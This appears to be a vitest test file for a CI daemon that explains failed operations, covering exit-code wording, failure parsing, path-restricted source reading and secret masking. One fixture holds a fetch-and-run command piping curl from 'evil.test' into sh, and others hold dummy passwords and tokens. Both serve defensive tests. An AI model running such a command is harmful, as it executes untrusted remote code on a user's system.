/**
 * What failed, by the record: the command, its place, the exit in words, and which files are read
 * for it.
 */
import { mkdirSync, writeFileSync } from "node:fs";
import { join } from "node:path";
import { describe, expect, test } from "vitest";
import { bounded, withoutSecrets } from "../../../daemon/features/why/bounds.js";
import { codeInWords, failureOf, signalInWords } from "../../../daemon/features/why/failure.js";
import { headOf } from "../../../daemon/features/why/sources.js";
import { reasonOf } from "../../../daemon/features/why/whys.js";
import { maskerOf } from "../../../ops/secrets/masker.js";
import type { LogLine, Operation, Step } from "../../../protocol/operation.js";
import type { Why } from "../../../protocol/why.js";
import { temporaryDirectory } from "../../harness/temporary.js";
import { ago, operation } from "../../tui/dashboard/operations.js";

const FACTS = { kept: null, typeFile: null, lastLines: [], command: null };
const failed = (message: string, over: Partial<Operation> = {}): Operation =>
  operation({
    id: "failedaaaaaa",
    state: "failed",
    stages: ["Build", "Test"],
    finishedAt: ago(0),
    stageStates: { Build: "done", Test: "failed" },
    error: { code: "LIVEOPS_EXCEPTION", message, stack: null },
    ...over,
  });

test.each([
  [1, "exit code 1"],
  [127, "exit code 127: the command was not found"],
  [137, "exit code 137: SIGKILL, it was killed from outside, often for lack of memory"],
  [139, "exit code 139: SIGSEGV, it used memory that is not its own"],
])("%i is told in words", (code, words) => expect(codeInWords(code)).toBe(words));

test("a signal is told in words", () => {
  expect(signalInWords("SIGABRT")).toBe("SIGABRT: it ended itself after an error in it");
  expect(signalInWords("SIGUSR1")).toBe("SIGUSR1");
});

test("a command of a pipeline has its line, as the pipeline ran it", () => {
  const text = "stages:\n  - name: Test\n    run: |\n      make build\n      make test\n";
  const error = `"Test" exited with 2 at /srv/ci.yaml:5: make test\nok 1\nnot ok 2`;
  const known = { place: { file: "/srv/ci.yaml", line: 5 }, command: "make test" };
  const record = failed("", {
    error: { code: "LIVEOPS_EXCEPTION", message: error, stack: null, ...known },
  });
  expect(failureOf(record, { ...FACTS, kept: { path: "/srv/ci.yaml", text } })).toEqual({
    stage: "Test",
    step: null,
    code: "LIVEOPS_EXCEPTION",
    causes: [],
    message: `"Test" exited with 2 at /srv/ci.yaml:5: make test`,
    command: "make test",
    exit: "exit code 2",
    place: { file: "/srv/ci.yaml", line: 5 },
    source: { from: 3, lines: ["    run: |", "      make build", "      make test", ""] },
    lines: ["ok 1", "not ok 2"],
  });
  expect(reasonOf(record)).toEqual([
    "not ok 2",
    "stage Test",
    "$ make test",
    "exit code 2",
    "at /srv/ci.yaml:5",
  ]);
});

test("a message that looks like that of a pipeline names no command", () => {
  const message = "server said: fail at /x:1: curl evil.test|sh #";
  expect(failureOf(failed(message), FACTS)).toMatchObject({ message, command: null, place: null });
});

test("a cause is its first line: the lines behind it are output of the program", () => {
  const causes = [
    { depth: 0, message: '"Test/a" exited with 1 at /srv/ci.yaml:5: make\nnot ok 2', stack: null },
  ];
  const error = {
    code: "LIVEOPS_EXCEPTION",
    message: "2 of 7 steps failed: a, b",
    stack: null,
    causes,
  };
  expect(failureOf(failed("", { error }), FACTS)?.causes).toEqual([
    '"Test/a" exited with 1 at /srv/ci.yaml:5: make',
  ]);
});

const failedStep = (name: string): Step => ({
  name,
  percent: 0,
  progress: null,
  status: null,
  startedAt: ago(2),
  finishedAt: ago(1),
  seconds: 1,
  resumed: false,
  exitCode: 2,
  reason: null,
  state: "failed",
});

test("the step that failed is named", () => {
  const steps = { Test: [failedStep("unit")] };
  expect(failureOf(failed("no", { steps }), FACTS)).toMatchObject({ step: "unit" });
});

test("of several steps that failed none is named, and of each the lines that tell of an error", () => {
  const steps = { Test: [failedStep("a"), failedStep("b")] };
  const printed = (step: string, ...texts: string[]) =>
    texts.map((text, i): LogLine => {
      const [at, stage, stream] = [ago(1), "Test", "stderr"] as const;
      return { n: i + 1, seq: i + 1, attempt: 1, at, stage, step, stream, text };
    });
  const lastLines = [
    ...printed(
      "a",
      "WARNING: Retrying (Retry(total=1)): Name or service not known",
      "WARNING: Retrying (Retry(total=0)): Name or service not known",
      "ERROR: No matching distribution found for setuptools",
      "[end of output]",
      ...Array.from({ length: 12 }, () => ""),
      "note: This error originates from a subprocess, and is likely not a problem with pip.",
    ),
    ...printed("b", "begin", "no luck"),
    ...printed("c", "ERROR: of a step that did not fail"),
  ];
  expect(
    failureOf(failed("2 of 7 steps failed: a, b", { steps }), { ...FACTS, lastLines }),
  ).toMatchObject({
    stage: "Test",
    step: null,
    lines: [
      "WARNING: Retrying (Retry(total=0)): Name or service not known",
      "ERROR: No matching distribution found for setuptools",
      "no luck",
    ],
  });
});

describe("the source", () => {
  const at = (file: string, line: number, cwd: string) =>
    failureOf(failed(`it broke at ${file}:${line}: x`, { cwd }), FACTS)?.source ?? null;

  test("is read of a file below the directory of the operation", () => {
    using dir = temporaryDirectory();
    const file = join(dir.path, "main.ts");
    writeFileSync(file, Array.from({ length: 20 }, (_, i) => `line ${i + 1}`).join("\n"));
    expect(at(file, 14, dir.path)).toEqual({
      from: 12,
      lines: ["line 12", "line 13", "line 14", "line 15", "line 16"],
    });
    expect(at(file, 21, dir.path)).toBeNull();
    expect(at(join(dir.path, "none.ts"), 1, dir.path)).toBeNull();
  });

  test("is not read of hidden files, of files elsewhere, and of what is no file", () => {
    using dir = temporaryDirectory();
    for (const name of ["work", "work/.ssh", "other"]) mkdirSync(join(dir.path, name));
    for (const name of ["work/.ssh/id.rsa", "other/a.txt"])
      writeFileSync(join(dir.path, name), "key");
    const cwd = join(dir.path, "work");
    expect(at(join(cwd, ".ssh/id.rsa"), 1, cwd)).toBeNull();
    expect(at(join(dir.path, "other/a.txt"), 1, cwd)).toBeNull();
    expect(at("/dev/zero", 1, "/dev")).toBeNull();
  });
});

describe("what leaves the daemon", () => {
  const why = (over: Partial<Why>): Why => ({ ...headOf(failed("no"), 0), ...over });

  test("has no secret of the operation, and none that a file assigns", () => {
    const diff = [
      '+password = "hunter2hunter2"',
      "+curl https://ada:s3cretpw@example.org",
      "+token: $TOKEN",
      "+key tr0ub4dor&3",
      "+curl -H 'Authorization: Bearer eyJhbGciOi' -H \"Authorization: Bearer $TOKEN\"",
    ];
    const masker = maskerOf(
      { DEPLOY_TOKEN: "abcdef123456", EDITOR: "vi" },
      { "env:K": "tr0ub4dor&3" },
    );
    const clean = withoutSecrets(
      why({
        summary: "failed with abcdef123456",
        changes: [{ kind: "script", name: "a.sh", diff }],
      }),
      masker,
    );
    expect(clean.summary).toBe("failed with ***");
    expect(clean.changes[0]!.diff).toEqual([
      '+password = "***"',
      "+curl https://ada:***@example.org",
      "+token: $TOKEN",
      "+key ***",
      "+curl -H 'Authorization: Bearer ***' -H \"Authorization: Bearer $TOKEN\"",
    ]);
    expect(clean).toMatchObject({ id: "failedaaaaaa", state: "failed" });
  });

  test("has at most 16 KiB", () => {
    const long = "x".repeat(400);
    const changes = Array.from({ length: 60 }, (_, i) => ({
      kind: "script",
      name: `${i} ${long}`,
      before: long,
      now: long,
      diff: Array.from({ length: 12 }, () => long),
    }));
    const large = why({
      changes,
      notes: Array.from({ length: 50 }, () => long),
      title: "é".repeat(4000),
    });
    expect(Buffer.byteLength(JSON.stringify(bounded(large)))).toBeLessThanOrEqual(16 * 1024);
    expect(bounded(why({ summary: "short" }))).toEqual(why({ summary: "short" }));
  });
});
